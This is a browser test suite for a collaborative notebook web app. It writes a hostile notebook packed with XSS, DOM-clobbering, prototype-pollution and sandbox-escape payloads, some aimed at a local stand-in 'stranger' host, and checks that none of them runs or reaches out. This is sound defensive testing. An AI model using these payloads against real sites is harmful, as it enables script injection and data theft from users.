import { once } from 'node:events'
import { writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { join } from 'node:path'
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { NotebookServer } from '../notebook/notebook-server.ts'
import { launchBrowser, reportPage, watchForeignRequests } from './browser.ts'

let server: NotebookServer
let browser: Browser & AsyncDisposable

beforeAll(async () => {
  server = await NotebookServer.start()
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser?.[Symbol.asyncDispose]()
  await server?.[Symbol.asyncDispose]()
})

test('a hostile notebook runs nothing, asks nobody and leads nowhere', async () => {
  await using stranger = await Stranger.start()
  const name = `<img src=x onerror=ran('name')>.ipynb`
  writeNotebook(server.directory, name, hostileCells(stranger.address), {
    kernelspec: {
      name: evil('kernel'),
      display_name: evil('display_name'),
      language: 'typescript',
    },
    language_info: { name: evil('l') },
    ['__proto__']: { ran: true },
    title: evil('title'),
  })
  const { context, page, ran } = await watchedPage(browser)
  const foreign = watchForeignRequests(page, [`127.0.0.1:${server.port}`])
  const stopped = new Set<string>()
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') stopped.add(request.url())
  })
  const visited: string[] = []
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) visited.push(frame.url())
  })
  await page.goto(server.url(encodeURIComponent(name)))

  // What is harmless in it is seen, so what is not had its chance.
  const cell = (at: number): Locator => page.locator('.cell').nth(at)
  await cell(0).getByText('markdown is shown').waitFor()
  for (const [at, text] of ['html', 'svg', 'fonts'].entries()) {
    await cell(at + 1)
      .frameLocator('iframe')
      .getByText(`${text} is shown`)
      .waitFor()
  }
  await cell(4).getByText('This image cannot be read').first().waitFor()
  await cell(4).getByText('Nothing here can show').first().waitFor()
  await cell(5).getByText('traceback is shown').waitFor()
  await page.getByRole('navigation', { name: 'Files' }).getByText(name).waitFor()
  expect(await page.title()).toBe(`${name.replace('.ipynb', '')} · Notebook`)

  for (const link of await cell(0).locator('a').all()) {
    const address = await link.getAttribute('href')
    expect(address === null || /^(https?|mailto):/.test(address), address ?? '').toBe(true)
    if (address === null) await link.click()
  }
  await cell(1).frameLocator('iframe').getByText('a link').click()
  await cell(1).frameLocator('iframe').getByText('a way out').click()
  await cell(2).frameLocator('iframe').getByText('svg is shown').click()
  for (const frame of page.frames()) await frame.evaluate(settle)

  // Nothing in it is found where the page looks for its own.
  const own = await page.evaluate(() => ({
    windowName: window.name,
    roots: document.querySelectorAll('#root').length,
    mains: document.querySelectorAll('#main').length,
    named: document.querySelectorAll('[name]:not(meta)').length,
    ids: [...document.querySelectorAll('[id]')].map(({ id }) => id),
    handlers: [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((attribute) => attribute.startsWith('on')),
    ),
    clobbered: ['config', 'me', 'notebook', 'ran_already'].filter((key) => key in window),
    polluted: 'ran' in Object.prototype || 'polluted' in {},
    scripts: [...document.scripts].map(({ src }) => new URL(src).pathname.split('/')[1]),
    queries: typeof document.querySelector,
  }))
  expect(own).toMatchObject({
    windowName: '',
    roots: 1,
    mains: 1,
    named: 0,
    handlers: [],
    clobbered: [],
    polluted: false,
    queries: 'function',
  })
  expect(own.ids.filter((id) => id.startsWith('evil'))).toEqual([])
  expect(new Set(own.scripts)).toEqual(new Set(['assets']))
  expect(ran).toEqual([])
  // The browser names what the frame's policy has stopped, too: that asks nobody.
  expect(foreign.filter((address) => !stopped.has(address))).toEqual([])
  expect(stranger.visits).toBe(0)
  expect(context.pages()).toHaveLength(1)
  expect(visited).toHaveLength(1)

  // The same text runs its scripts once somebody has run the cell here: the watch above does see them.
  await cell(6).getByRole('button', { name: 'Run this cell' }).click()
  await vi.waitFor(() => expect(ran).toEqual(['script after a run']), { timeout: 20_000 })
  await context.close()
})

test('what a cell displays has no rights of the page that shows it', async () => {
  await using stranger = await Stranger.start()
  const source = [
    `display.html(${JSON.stringify(`<script>(${tryEverything.toString()})('${stranger.address}')</script>`)})`,
    // A frame of its own, since this one is lost.
    `display.html("<p>gone</p><script>location = '${stranger.address}/gone'</script>")`,
  ].join('\n')
  writeNotebook(server.directory, 'tries.ipynb', [codeCell('a', source)])
  const { context, page, ran } = await watchedPage(browser)
  await page.goto(server.url('tries.ipynb'))
  await page.getByRole('button', { name: 'Run all' }).click()
  await vi.waitFor(() => expect(ran).toHaveLength(1), { timeout: 20_000 })
  expect(JSON.parse(ran[0] ?? '')).toEqual({
    origin: 'null',
    me: 'TypeError',
    signedIn: 'TypeError',
    cookie: 'SecurityError',
    localStorage: 'SecurityError',
    sessionStorage: 'SecurityError',
    indexedDB: 'SecurityError',
    parentDocument: 'SecurityError',
    parentFunction: 'SecurityError',
    frameElement: 'null',
    topAddress: 'SecurityError',
    topNavigation: 'SecurityError',
    popup: 'null',
    stranger: 'TypeError',
    strangerImage: 'error',
    strangerSocket: 'error',
    worker: 'SecurityError',
  })
  await page.locator('iframe').nth(1).waitFor()
  for (const frame of page.frames().slice(0, 2)) await frame.evaluate(settle)
  expect(new URL(page.url()).pathname).toBe('/')
  expect(await page.getByRole('region', { name: 'TypeScript cell 1' }).count()).toBe(1)
  expect(context.pages()).toHaveLength(1)
  expect(stranger.visits).toBe(0)
  await context.close()
})

/** Runs in the frame of an output: says of every right whether it has it, or what it got instead. */
async function tryEverything(stranger: string): Promise<void> {
  const settled = (target: EventTarget): Promise<string> =>
    new Promise((resolve) => {
      for (const type of ['load', 'open', 'error']) {
        target.addEventListener(type, () => resolve(type))
      }
    })
  const tries: Record<string, () => unknown> = {
    origin: () => self.origin,
    me: async () => (await fetch('/api/me')).status,
    signedIn: async () =>
      (await fetch('/api/me', { credentials: 'include', mode: 'no-cors' })).type,
    cookie: () => document.cookie,
    localStorage: () => localStorage.length,
    sessionStorage: () => sessionStorage.length,
    indexedDB: () => indexedDB.open('a').readyState,
    parentDocument: () => parent.document.title,
    parentFunction: () => (parent as unknown as { ran: () => void }).ran(),
    frameElement: () => frameElement,
    topAddress: () => top?.location.href,
    topNavigation: () => {
      if (top) top.location.href = stranger
    },
    popup: () => open(stranger),
    stranger: async () => (await fetch(stranger, { mode: 'no-cors' })).type,
    strangerImage: () => settled(Object.assign(new Image(), { src: stranger })),
    strangerSocket: () => settled(new WebSocket(stranger.replace('http', 'ws'))),
    worker: () => navigator.serviceWorker.register('/a.js'),
  }
  const found: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      found[name] = String(await attempt())
    } catch (error) {
      found[name] = (error as Error).name
    }
  }
  ;(window as unknown as { ran: (what: string) => void }).ran(JSON.stringify(found))
}

test('two pages that type at one place end with one text, and share what is deleted', async () => {
  writeNotebook(server.directory, 'both.ipynb', [codeCell('a', 'start '), codeCell('b', 'other')])
  const pages = await Promise.all(
    ['abcdefghijklmnopqrstuvwxyz', '01234567890123456789012345'].map(async (typed) => {
      const { context, page } = await watchedPage(browser)
      await page.goto(server.url('both.ipynb'))
      await page.getByRole('list', { name: 'Also here' }).getByText('tester').waitFor()
      const editor = page.getByRole('region', { name: 'TypeScript cell 1' }).getByRole('textbox')
      await editor.click()
      await page.keyboard.press('Control+End')
      return { context, page, editor, typed }
    }),
  )
  await Promise.all(
    pages.map(({ page }) => page.locator('.remote-caret').waitFor({ state: 'attached' })),
  )
  await Promise.all(pages.map(({ page, typed }) => page.keyboard.type(typed, { delay: 8 })))
  const texts = async (): Promise<readonly string[]> =>
    Promise.all(pages.map(({ editor }) => editor.evaluate(textWithoutCarets)))
  await vi.waitFor(async () => {
    const [one = '', other = ''] = await texts()
    expect(one).toBe(other)
    expect(one).toHaveLength('start '.length + 52)
  })
  const [text = ''] = await texts()
  expect(text.startsWith('start ')).toBe(true)
  const rest = text.slice('start '.length)
  expect(rest.replaceAll(/\d/g, '')).toBe(pages[0]?.typed)
  expect(rest.replaceAll(/\D/g, '')).toBe(pages[1]?.typed)

  const [one, other] = pages
  if (one === undefined || other === undefined) throw new Error('two pages were opened')
  await one.page.keyboard.press('Escape')
  await one.page.keyboard.press('d')
  await one.page.keyboard.press('d')
  for (const { page } of pages) await page.getByText(text).waitFor({ state: 'detached' })
  await one.page.keyboard.press('z')
  for (const { page } of pages) {
    const first = page.getByRole('region', { name: 'TypeScript cell 1' }).getByRole('textbox')
    // The other's caret may stand in the middle of it, with its name.
    await vi.waitFor(async () => expect(await first.evaluate(textWithoutCarets)).toBe(text))
    expect(await page.locator('.cell').count()).toBe(2)
  }
  for (const { context } of pages) await context.close()
})

function textWithoutCarets(editor: Element): string {
  const copy = editor.cloneNode(true) as Element
  for (const caret of copy.querySelectorAll('.remote-caret')) caret.remove()
  return [...copy.querySelectorAll('.cm-line')].map((line) => line.textContent).join('\n')
}

test('the terminal knows the cells, gives its prompt back, and shows its screen after a reload', async () => {
  writeNotebook(server.directory, 'terminal.ipynb', [codeCell('a', 'const value = 21\nvalue')])
  const { context, page } = await watchedPage(browser)
  await page.goto(server.url('terminal.ipynb'))
  await page.getByRole('button', { name: 'Run all' }).click()
  await page.getByRole('group', { name: 'Output' }).getByText('21').waitFor({ timeout: 20_000 })
  await page.getByRole('tab', { name: 'Terminal' }).click()
  const screen = page.getByRole('group', { name: 'Terminal of the kernel' }).locator('.xterm-rows')
  const seen = async (): Promise<string> =>
    (await screen.innerText()).replaceAll('\u00a0', ' ').trimEnd()
  await screen.getByText('>').first().waitFor()
  await page.keyboard.type('`twice is ${value * 2}`')
  await page.keyboard.press('Enter')
  await screen.getByText('twice is 42').waitFor()

  await page.keyboard.type('console.log(`loop ${value}`); while (true) {}')
  await page.keyboard.press('Enter')
  await screen.getByText('loop 21').waitFor()
  await page.getByRole('status').filter({ hasText: 'Running' }).waitFor()
  await page.keyboard.press('Control+c')
  await vi.waitFor(async () => expect(await seen()).toMatch(/InterruptError[^]*\n>$/), {
    timeout: 10_000,
  })
  await page.keyboard.type('`more is ${value + 1}`')
  await page.keyboard.press('Enter')
  await screen.getByText('more is 22').waitFor()

  await vi.waitFor(async () => expect(await seen()).toMatch(/more is 22'\n>$/))
  const before = await seen()
  await page.reload()
  await page.getByRole('tab', { name: 'Terminal' }).click()
  await screen.getByText('more is 22').waitFor()
  await vi.waitFor(async () => expect(await seen()).toBe(before))
  await context.close()
})

test('variables are looked into by keyboard', async () => {
  const source = 'const trip = { days: [1, 2, { city: "Oslo" }] }'
  writeNotebook(server.directory, 'variables.ipynb', [codeCell('a', source)])
  const { context, page } = await watchedPage(browser)
  await page.goto(server.url('variables.ipynb'))
  await page.getByRole('button', { name: 'Run all' }).click()
  await page.getByRole('tab', { name: 'Variables' }).click()
  const tree = page.getByRole('treegrid', { name: 'Variables' })
  await tree.getByRole('row', { name: /^trip/ }).focus()
  await page.keyboard.press('ArrowRight') // opens it
  await tree.getByRole('row', { name: /^days/ }).waitFor()
  await page.keyboard.press('ArrowRight') // goes in
  await page.keyboard.press('ArrowRight')
  await tree.getByRole('row', { name: /^2 Object/ }).waitFor()
  await page.keyboard.press('End')
  await page.keyboard.press('ArrowRight')
  await tree.getByRole('row', { name: /^city/ }).waitFor()
  expect(await tree.getByRole('row', { expanded: true }).count()).toBe(3)
  await page.keyboard.press('Home')
  await page.keyboard.press('ArrowLeft')
  await tree.getByRole('row', { name: /^days/ }).waitFor({ state: 'detached' })
  await page.getByRole('searchbox', { name: 'Filter variables' }).fill('nothing')
  await tree.getByRole('row', { name: /^trip/ }).waitFor({ state: 'detached' })
  await context.close()
})

/** Tells of itself if it ever runs, in every way that a browser reads. */
function evil(where: string): string {
  return `"'><img src=x onerror="ran('${where}')"><script>ran('${where}')</script>`
}

function hostileCells(stranger: string): readonly object[] {
  const png =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
  const display = (data: object, metadata: object = {}): object => ({
    output_type: 'display_data',
    data,
    metadata,
  })
  const code = (id: string, source: string, outputs: readonly object[]): object => ({
    id,
    cell_type: 'code',
    metadata: { name: evil('cell name'), tags: [evil('tag')], ['__proto__']: { ran: true } },
    source,
    outputs,
    execution_count: null,
  })
  return [
    {
      id: 'root',
      cell_type: 'markdown',
      metadata: {},
      attachments: {
        [evil('attachment')]: { 'text/html': evil('attachment') },
        'a.svg': { 'image/svg+xml': Buffer.from(evil('attached svg')).toString('base64') },
        'a.png': { [`image/png" onerror="ran('attached png')`]: png },
      },
      source: [
        'markdown is shown',
        evil('markdown'),
        `<form id=root name=config action=${stranger}><input name=notebook></form>`,
        `<iframe srcdoc="<script>top.ran('srcdoc')</script>"></iframe>`,
        `<meta http-equiv=refresh content="0;url=${stranger}"><base href="${stranger}/">`,
        `[one](javascript:ran('link')) [two](JaVaScRiPt&colon;ran('link'))`,
        `[three](java&#10;script:ran('link')) [four](data:text/html,<script>ran('link')</script>)`,
        `[five](vbscript:ran('link')) <javascript:ran('autolink')> [six](/api/me)`,
        `[seven](https://example.invalid/"onclick="ran('attribute'))`,
        `![x](x"onerror="ran('image')) ![x](${stranger}/pixel.png) ![x](attachment:a.svg)`,
        '![x](attachment:a.png) ![x](attachment:__proto__) ![x](data:image/svg+xml;base64,PHN2Zz4=)',
        '```js"><img src=x onerror=ran(`fence`)>\ncode\n```',
        '# heading {#root} <a name=config id=evil>',
      ].join('\n\n'),
    },
    code('__proto__', '1', [
      display({
        'text/html': [
          '<p>html is shown</p>',
          evil('html'),
          `<svg onload="ran('svg onload')"></svg><body onload="ran('body')">`,
          `<details open ontoggle="ran('toggle')"></details>`,
          `<input autofocus onfocus="ran('focus')"><video><source onerror="ran('source')"></video>`,
          `<a href="javascript:ran('html link')">a link</a>`,
          `<a href="${stranger}/way-out" target="_top">a way out</a>`,
          `<iframe srcdoc="<script>parent.ran('inner')</script>"></iframe>`,
          `<iframe src="javascript:parent.ran('inner')"></iframe><object data="${stranger}"></object>`,
          `<form id=evil action="${stranger}"><input name=submit></form>`,
          `<script>document.forms[0].requestSubmit()</script>`,
          `<meta http-equiv="refresh" content="0;url=${stranger}/refresh"><base href="${stranger}">`,
          `<img src="${stranger}/pixel.png"><link rel="stylesheet" href="${stranger}/a.css">`,
          `<link rel="preconnect" href="${stranger}"><link rel="prefetch" href="${stranger}/a">`,
          `<img name="body"><img name="querySelector"><a id="config"></a>`,
          `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran('mutated')&gt;">`,
        ].join('\n'),
      }),
    ]),
    code('constructor', '2', [
      display({
        'image/svg+xml': [
          `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`,
          ` width="300" height="100" onload="ran('svg')"><script>ran('svg')</script>`,
          `<foreignObject><iframe srcdoc="<script>parent.ran('foreign')</script>"></iframe></foreignObject>`,
          `<image href="${stranger}/svg.png"/><use href="${stranger}/use.svg#a"/>`,
          `<animate onbegin="ran('begin')" attributeName="x" dur="1s"/>`,
          `<a xlink:href="javascript:ran('svg link')"><text y="50">svg is shown</text></a></svg>`,
        ].join(''),
      }),
    ]),
    code('main', '3', [
      display({
        'text/html': `<style>@import url(${stranger}/i.css);
          @font-face { font-family: evil; src: url(${stranger}/f.woff) }
          p { font-family: evil; background: url(${stranger}/b.png) }</style><p>fonts is shown</p>`,
      }),
    ]),
    code('evil4', '4', [
      display({ 'image/png': `" onerror="ran('png')` }),
      display(
        { 'image/jpeg': png, 'text/plain': evil('alt') },
        {
          'image/jpeg': { width: evil('width'), height: evil('height') },
        },
      ),
      display({ [evil('mime')]: 'x', [`application/javascript`]: `ran('javascript')` }),
      display({ 'text/markdown': `${evil('md output')} [x](javascript:ran('md'))` }),
      display({ 'text/latex': `$\\href{javascript:ran('latex')}{x}$${evil('latex')}` }),
      display({
        'application/json': { [evil('json')]: evil('json'), ['__proto__']: { polluted: 1 } },
      }),
    ]),
    code('evil5', '5', [
      {
        output_type: 'error',
        ename: evil('ename'),
        evalue: evil('evalue'),
        traceback: [
          `traceback is shown ${evil('traceback')}`,
          `\u001b]8;;javascript:ran(1)\u0007link\u001b]8;;\u0007`,
        ],
      },
      { output_type: 'stream', name: evil('stream'), text: `\u001b[31m${evil('stream')}\u001b[0m` },
    ]),
    code('evil6', `display.html("<script>ran('script after a run')</script>")`, []),
  ]
}

/** Ends after what an image that fails in this document has to say. */
function settle(): Promise<void> {
  return new Promise((resolve) => {
    const image = new Image()
    image.addEventListener('error', () => requestAnimationFrame(() => setTimeout(resolve)))
    image.src = 'data:image/png,none'
  })
}

/** Another host, which counts whoever comes. */
class Stranger implements AsyncDisposable {
  visits = 0
  readonly #server = createServer((socket) => {
    this.visits++
    socket.destroy()
  })

  static async start(): Promise<Stranger> {
    const stranger = new Stranger()
    stranger.#server.listen(0, '127.0.0.1')
    await once(stranger.#server, 'listening')
    return stranger
  }

  get address(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.close()
    await once(this.#server, 'close')
  }
}

/** A page where every script can say `ran(what)`, in whatever frame it is; a dialog says it, too. */
async function watchedPage(
  from: Browser,
): Promise<{ readonly context: BrowserContext; readonly page: Page; readonly ran: string[] }> {
  const context = await from.newContext({ viewport: { width: 1280, height: 2_000 } })
  context.setDefaultTimeout(20_000)
  const ran: string[] = []
  await context.exposeFunction('ran', (what: string) => ran.push(what))
  const page = await context.newPage()
  reportPage(page)
  page.on('dialog', (dialog) => {
    ran.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  return { context, page, ran }
}

function codeCell(id: string, source: string): object {
  return { id, cell_type: 'code', metadata: {}, source, outputs: [], execution_count: null }
}

function writeNotebook(
  directory: string,
  name: string,
  cells: readonly object[],
  metadata: object = {},
): void {
  writeFileSync(
    join(directory, name),
    JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata, cells }),
  )
}
